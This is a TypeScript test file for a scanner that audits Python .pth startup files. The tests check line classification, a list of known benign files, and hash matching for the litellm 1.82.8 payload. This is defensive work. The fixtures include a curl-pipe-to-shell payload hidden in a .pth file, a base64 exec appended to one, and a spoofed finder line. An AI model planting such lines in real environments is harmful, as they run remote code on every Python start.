import { describe, expect, it } from 'vitest';
import { classifyPthContent, isExecutablePthLine, knownBenignPth, knownMaliciousPth, splitPthLines } from './pth-audit.js';
import { KNOWN_MALICIOUS_PTH } from './pth-known.js';

// setuptools setup.py install_with_pth._pth_contents, as it lands on disk.
const DISTUTILS_PRECEDENCE =
  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

describe('site.py line rule', () => {
  it.each([
    ['import os', true],
    ['import\tos', true],
    ['import os; os.system("id")', true],
    ['importlib', false],
    ['importos', false],
    ['import', false],
    [' import os', false],
    ['\timport os', false],
    ['Import os', false],
    ['/opt/src', false],
    ['from os import system', false],
  ])('treats %j as executable: %s', (line, executable) => {
    expect(isExecutablePthLine(line)).toBe(executable);
  });

  it('skips blank lines and lines starting with # but keeps an indented # as a path entry', () => {
    const { lines } = classifyPthContent('# comment\n\n   \n#import os\n  # not a comment\n/srv/lib\nimport sys\n');

    expect(lines).toEqual([
      { text: '  # not a comment', executable: false },
      { text: '/srv/lib', executable: false },
      { text: 'import sys', executable: true },
    ]);
  });

  it('splits lines on every boundary str.splitlines knows, so a \\r or \\f cannot hide an import line', () => {
    expect(splitPthLines('/a\r\nimport os\rimport sys\fimport x\x85import y\u2028/b\n')).toEqual([
      '/a',
      'import os',
      'import sys',
      'import x',
      'import y',
      '/b',
    ]);
  });

  it('drops a UTF-8 BOM before classifying, as Python 3.13 reads .pth files as utf-8-sig', () => {
    expect(classifyPthContent('\ufeffimport os\n').lines).toEqual([{ text: 'import os', executable: true }]);
  });

  it('keeps at most the bounded number of lines and characters and says it cut them', () => {
    const long = `import os; ${'x'.repeat(50)}`;
    const { lines, truncated } = classifyPthContent(`${long}\n/a\n/b\n`, { maxLines: 2, maxLineChars: 20 });

    expect(lines).toEqual([
      { text: long.slice(0, 20), executable: true },
      { text: '/a', executable: false },
    ]);
    expect(truncated).toBe(true);
  });
});

describe('known .pth files', () => {
  const file = (path: string, content: string) => ({ path, ...classifyPthContent(content) });

  it("recognises setuptools' distutils-precedence.pth by name and content", () => {
    expect(knownBenignPth(file('/usr/lib/python3/dist-packages/distutils-precedence.pth', DISTUTILS_PRECEDENCE))?.id).toBe(
      'setuptools-distutils-precedence',
    );
  });

  it('does not wave through a payload saved under a benign name', () => {
    const payload = file('/site/distutils-precedence.pth', 'import os; os.system("curl https://models.litellm.cloud | sh")\n');
    const appended = file('/site/distutils-precedence.pth', `${DISTUTILS_PRECEDENCE}import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n`);

    expect(knownBenignPth(payload)).toBeNull();
    expect(knownBenignPth(appended)).toBeNull();
  });

  it('does not accept benign content under another name', () => {
    expect(knownBenignPth(file('/site/litellm_init.pth', 'import _virtualenv\n'))).toBeNull();
  });

  it('recognises virtualenv, editable finders, pywin32 and setuptools namespace .pth files', () => {
    const nspkg =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google.cloud', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['google'], 'cloud', m)\n";

    expect(knownBenignPth(file('/venv/site/_virtualenv.pth', 'import _virtualenv\n'))?.id).toBe('virtualenv');
    expect(
      knownBenignPth(file('/venv/site/__editable__.blast_radius-0.1.0.pth', 'import __editable___blast_radius_0_1_0_finder; __editable___blast_radius_0_1_0_finder.install()\n'))?.id,
    ).toBe('setuptools-editable-finder');
    expect(knownBenignPth(file('/site/pywin32.pth', '# .pth file for the PyWin32 extensions\nwin32\nwin32\\lib\nPythonwin\nimport pywin32_bootstrap\n'))?.id).toBe('pywin32');
    expect(knownBenignPth(file('/site/google_cloud_core-1.0-py3.8-nspkg.pth', nspkg))?.id).toBe('setuptools-nspkg');
  });

  it('refuses an editable finder line whose two module names differ', () => {
    expect(knownBenignPth(file('/site/__editable__.x-1.pth', 'import __editable___x_1_finder; evil.install()\n'))).toBeNull();
  });

  it('never calls a truncated file benign, since its unread part could hold anything', () => {
    expect(knownBenignPth({ path: '/site/_virtualenv.pth', lines: [{ text: 'import _virtualenv', executable: true }], truncated: true })).toBeNull();
  });

  it('knows the litellm 1.82.8 payload by its sha256 from the incident record, in any letter case', () => {
    const sha256 = '71E35AEF03099CD1F2D6446734273025A163597DE93912DF321EF118BF135238';

    expect(knownMaliciousPth({ sha256 })?.fileName).toBe('litellm_init.pth');
    expect(knownMaliciousPth({ sha256: null })).toBeNull();
    expect(KNOWN_MALICIOUS_PTH.every((entry) => /^[0-9a-f]{64}$/.test(entry.sha256))).toBe(true);
  });
});
